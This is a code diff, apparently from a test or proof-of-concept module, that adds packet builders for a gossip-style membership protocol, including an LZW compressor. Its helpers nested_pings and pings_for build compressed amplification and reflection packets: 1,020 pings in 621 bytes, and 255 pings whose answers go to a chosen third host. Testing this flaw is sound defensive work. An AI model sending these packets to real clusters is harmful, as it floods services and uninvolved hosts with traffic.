@@ -59,6 +59,101 @@ def compound(messages):
             + b"".join(messages))
 
 
+def ping(**fields):
+    """Its answer goes to SourceAddr, where there is one."""
+    return bytes((PING,)) + body(SeqNo=1, **fields)
+
+
+class Lzw:
+    """As Go's compress/lzw writes it: the least significant bit first, literals
+    of 8 bits."""
+
+    CLEAR, END, LAST = 256, 257, 4095
+
+    def __init__(self):
+        self.bits = self.used = 0
+        self.out = bytearray()
+        self.begin()
+
+    def begin(self):
+        self.width, self.high, self.overflow = 9, self.END, 512
+        self.emit(self.CLEAR)
+
+    def emit(self, code):
+        self.bits |= code << self.used
+        self.used += self.width
+        while self.used >= 8:
+            self.out.append(self.bits & 255)
+            self.bits >>= 8
+            self.used -= 8
+
+    def next_code(self):
+        """The code of what was just seen first; None: all begins anew."""
+        self.high += 1
+        if self.high == self.overflow:
+            self.width += 1
+            self.overflow <<= 1
+        if self.high < self.LAST:
+            return self.high
+        self.emit(self.CLEAR)
+        self.width, self.high, self.overflow = 9, self.END, 512
+        return None
+
+    def end(self):
+        self.next_code()
+        self.emit(self.END)
+        if self.used:
+            self.out.append(self.bits & 255)
+        return bytes(self.out)
+
+
+def lzw(data):
+    made, table, code = Lzw(), {}, data[0]
+    for value in data[1:]:
+        known = table.get((code, value))
+        if known is not None:
+            code = known
+            continue
+        made.emit(code)
+        new = made.next_code()
+        if new is None:
+            table = {}
+        else:
+            table[code, value] = new
+        code = value
+    made.emit(code)
+    return made.end()
+
+
+def lzw_zeros(count):
+    """lzw(bytes(count)), sooner: each piece is one zero longer."""
+    made, code, length = Lzw(), 0, 1
+    while count > length:
+        made.emit(code)
+        count -= length
+        new = made.next_code()
+        code, length = (0, 1) if new is None else (new, length + 1)
+    # The last piece is in the table, be it shorter.
+    made.emit(0 if count == 1 else Lzw.END + count - 1)
+    return made.end()
+
+
+def compressed(packed):
+    return bytes((COMPRESS,)) + body(Algo=0, Buf=packed)
+
+
+def nested_pings():
+    """1,020 pings in a packet of 621 bytes."""
+    return compressed(lzw(compound([compound([ping()] * 255)] * 4)))
+
+
+def pings_for(address):
+    """255 pings in a packet of 1,111 bytes, whose answers another host is to
+    get."""
+    return compressed(lzw(compound(
+        [ping(SourceAddr=address, SourcePort=PORT)] * 255)))
+
+
 def push_pull(states, user_state=b""):
     """A full exchange, from who says that it knows these states."""
     return (bytes((PUSH_PULL,))
